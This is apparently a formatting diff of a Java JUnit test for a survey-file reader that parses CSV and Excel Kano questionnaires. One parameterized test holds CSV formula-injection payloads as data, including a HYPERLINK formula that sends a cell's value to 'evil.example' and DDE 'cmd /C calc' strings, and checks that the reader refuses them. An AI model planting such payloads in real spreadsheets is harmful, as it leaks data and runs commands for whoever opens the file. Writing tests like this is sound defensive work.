@@ -1,11 +1,7 @@
 package com.propertyservice.advisor.kano;
 
-import org.apache.poi.xssf.usermodel.XSSFRow;
-import org.apache.poi.xssf.usermodel.XSSFSheet;
-import org.apache.poi.xssf.usermodel.XSSFWorkbook;
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
@@ -14,9 +10,12 @@ import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
-
-import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import org.apache.poi.xssf.usermodel.XSSFRow;
+import org.apache.poi.xssf.usermodel.XSSFSheet;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Survey files as Excel, WPS and their users write them, and the ways they go wrong. */
 class SurveyReaderTest {
@@ -60,8 +59,10 @@ class SurveyReaderTest {
                 + "快递代收;;张三;3;1\r\n\r\n"
                 + "lift-outage;;李四;5;1\r\n";
         SurveyReader.SurveyFile file = read(csv.getBytes(StandardCharsets.UTF_8));
-        assertThat(file.rows()).extracting(SurveyRow::item, SurveyRow::respondent, SurveyRow::functional, SurveyRow::dysfunctional)
-                .containsExactly(org.assertj.core.groups.Tuple.tuple("lift-outage", "张三", 2, 5),
+        assertThat(file.rows())
+                .extracting(SurveyRow::item, SurveyRow::respondent, SurveyRow::functional, SurveyRow::dysfunctional)
+                .containsExactly(
+                        org.assertj.core.groups.Tuple.tuple("lift-outage", "张三", 2, 5),
                         org.assertj.core.groups.Tuple.tuple("快递代收", "张三", 1, 3),
                         org.assertj.core.groups.Tuple.tuple("lift-outage", "李四", 1, 5));
         assertThat(file.rows()).extracting(SurveyRow::line).containsExactly(2, 4, 6);
@@ -71,7 +72,8 @@ class SurveyReaderTest {
     @Test
     void answersWrittenAsExcelNumbersOrFullWidthDigitsCount() {
         String csv = "respondent,item,functional,dysfunctional\nA,lift-outage,2.0,５\n";
-        assertThat(read(csv.getBytes(StandardCharsets.UTF_8)).rows()).containsExactly(new SurveyRow(2, "A", "lift-outage", 2, 5));
+        assertThat(read(csv.getBytes(StandardCharsets.UTF_8)).rows())
+                .containsExactly(new SurveyRow(2, "A", "lift-outage", 2, 5));
     }
 
     @Test
@@ -89,10 +91,13 @@ class SurveyReaderTest {
                 I,lift-outage,1,5
                 """;
         SurveyReader.SurveyFile file = read(csv.getBytes(StandardCharsets.UTF_8));
-        assertThat(file.rows()).extracting(SurveyRow::respondent, SurveyRow::line)
-                .containsExactly(org.assertj.core.groups.Tuple.tuple("A", 2), org.assertj.core.groups.Tuple.tuple("I", 10));
+        assertThat(file.rows())
+                .extracting(SurveyRow::respondent, SurveyRow::line)
+                .containsExactly(
+                        org.assertj.core.groups.Tuple.tuple("A", 2), org.assertj.core.groups.Tuple.tuple("I", 10));
         assertThat(file.badRows()).isEqualTo(6);
-        assertThat(file.unreadable()).extracting(RowProblem::line, RowProblem::column, RowProblem::value, RowProblem::reason)
+        assertThat(file.unreadable())
+                .extracting(RowProblem::line, RowProblem::column, RowProblem::value, RowProblem::reason)
                 .containsExactly(
                         org.assertj.core.groups.Tuple.tuple(3, "functional", "0", RowProblem.Reason.NOT_AN_ANSWER),
                         org.assertj.core.groups.Tuple.tuple(4, "dysfunctional", "6", RowProblem.Reason.NOT_AN_ANSWER),
@@ -104,8 +109,15 @@ class SurveyReaderTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", " =1+1"})
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "\t=1+1",
+                " =1+1"
+            })
     void aCellASpreadsheetWouldRunAsAFormulaRefusesTheWholeFile(String cell) {
         String csv = "respondent,item,functional,dysfunctional\nA,lift-outage,2,5\nB," + quoted(cell) + ",1,5\n";
         assertThatThrownBy(() -> read(csv.getBytes(StandardCharsets.UTF_8)))
@@ -119,10 +131,14 @@ class SurveyReaderTest {
     void aFormulaInAnAnswerOrRespondentCellRefusesTheFileButANegativeAnswerIsJustAWrongAnswer() {
         String formula = "respondent,item,functional,dysfunctional\nA,lift-outage,=1+1,5\n";
         assertThatThrownBy(() -> read(formula.getBytes(StandardCharsets.UTF_8)))
-                .isInstanceOfSatisfying(SurveyFileException.class, e -> assertThat(e.arguments()).containsExactly(2, "functional"));
+                .isInstanceOfSatisfying(
+                        SurveyFileException.class,
+                        e -> assertThat(e.arguments()).containsExactly(2, "functional"));
         String respondent = "respondent,item,functional,dysfunctional\n@A,lift-outage,1,5\n";
         assertThatThrownBy(() -> read(respondent.getBytes(StandardCharsets.UTF_8)))
-                .isInstanceOfSatisfying(SurveyFileException.class, e -> assertThat(e.arguments()).containsExactly(2, "respondent"));
+                .isInstanceOfSatisfying(
+                        SurveyFileException.class,
+                        e -> assertThat(e.arguments()).containsExactly(2, "respondent"));
         String negative = "respondent,item,functional,dysfunctional\nA,lift-outage,-1,5\n";
         assertThat(read(negative.getBytes(StandardCharsets.UTF_8)).unreadable()).hasSize(1);
     }
@@ -133,19 +149,25 @@ class SurveyReaderTest {
         assertThatThrownBy(() -> read(csv.getBytes(StandardCharsets.UTF_8)))
                 .isInstanceOfSatisfying(SurveyFileException.class, e -> {
                     assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.WRONG_COLUMNS);
-                    assertThat(e.arguments()).containsExactly("respondent, item, functional, dysfunctional", "受访者, 项目, 正向, 反向");
+                    assertThat(e.arguments())
+                            .containsExactly("respondent, item, functional, dysfunctional", "受访者, 项目, 正向, 反向");
                 });
         String twice = "respondent,item,functional,functional,dysfunctional\nA,lift-outage,2,2,5\n";
         assertThatThrownBy(() -> read(twice.getBytes(StandardCharsets.UTF_8)))
-                .isInstanceOfSatisfying(SurveyFileException.class, e -> assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.WRONG_COLUMNS));
+                .isInstanceOfSatisfying(
+                        SurveyFileException.class,
+                        e -> assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.WRONG_COLUMNS));
     }
 
     @Test
     void anEmptyOrBlankFileIsRefusedAndAHeaderAloneHasNoRows() {
         assertThat(reason(new byte[0])).isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
-        assertThat(reason("\uFEFF \r\n\r\n".getBytes(StandardCharsets.UTF_8))).isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
-        assertThat(reason(",,,\n,,,\n".getBytes(StandardCharsets.UTF_8))).isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
-        SurveyReader.SurveyFile header = read("respondent,item,functional,dysfunctional\n".getBytes(StandardCharsets.UTF_8));
+        assertThat(reason("\uFEFF \r\n\r\n".getBytes(StandardCharsets.UTF_8)))
+                .isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
+        assertThat(reason(",,,\n,,,\n".getBytes(StandardCharsets.UTF_8)))
+                .isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
+        SurveyReader.SurveyFile header =
+                read("respondent,item,functional,dysfunctional\n".getBytes(StandardCharsets.UTF_8));
         assertThat(header.rows()).isEmpty();
         assertThat(header.badRows()).isZero();
     }
@@ -162,7 +184,8 @@ class SurveyReaderTest {
             out.write("not a workbook".getBytes(StandardCharsets.UTF_8));
         }
         assertThat(reason(zip.toByteArray())).isEqualTo(SurveyFileException.Reason.UNREADABLE_FILE);
-        assertThat(reason("respondent\u0000,item".getBytes(StandardCharsets.UTF_8))).isEqualTo(SurveyFileException.Reason.UNREADABLE_FILE);
+        assertThat(reason("respondent\u0000,item".getBytes(StandardCharsets.UTF_8)))
+                .isEqualTo(SurveyFileException.Reason.UNREADABLE_FILE);
     }
 
     @Test
@@ -176,7 +199,9 @@ class SurveyReaderTest {
                     assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.TOO_MANY_ROWS);
                     assertThat(e.arguments()).containsExactly(10);
                 });
-        assertThat(SurveyReader.read(csv.toString().getBytes(StandardCharsets.UTF_8), 11).rows()).hasSize(11);
+        assertThat(SurveyReader.read(csv.toString().getBytes(StandardCharsets.UTF_8), 11)
+                        .rows())
+                .hasSize(11);
     }
 
     @Test
@@ -190,9 +215,10 @@ class SurveyReaderTest {
         });
         SurveyReader.SurveyFile file = read(workbook);
         assertThat(file.format()).isEqualTo("XLSX");
-        assertThat(file.rows()).containsExactly(new SurveyRow(2, "张三", "lift-outage", 2, 5),
-                new SurveyRow(4, "李四", "快递代收", 1, 3));
-        assertThat(file.unreadable()).extracting(RowProblem::line, RowProblem::column, RowProblem::value)
+        assertThat(file.rows())
+                .containsExactly(new SurveyRow(2, "张三", "lift-outage", 2, 5), new SurveyRow(4, "李四", "快递代收", 1, 3));
+        assertThat(file.unreadable())
+                .extracting(RowProblem::line, RowProblem::column, RowProblem::value)
                 .containsExactly(org.assertj.core.groups.Tuple.tuple(5, "functional", "7.0"));
     }
 
@@ -238,7 +264,8 @@ class SurveyReaderTest {
     }
 
     static byte[] workbook(SheetWriter writer) throws IOException {
-        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+        try (XSSFWorkbook workbook = new XSSFWorkbook();
+                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             writer.write(workbook.createSheet("问卷"));
             workbook.createSheet("notes").createRow(0).createCell(0).setCellValue("ignored");
             workbook.write(out);
@@ -247,8 +274,7 @@ class SurveyReaderTest {
     }
 
     /** A cell that holds a formula. */
-    record Formula(String text) {
-    }
+    record Formula(String text) {}
 
     /** A sheet row of text, numbers and formulas. */
     static void row(XSSFSheet sheet, int index, Object... values) {
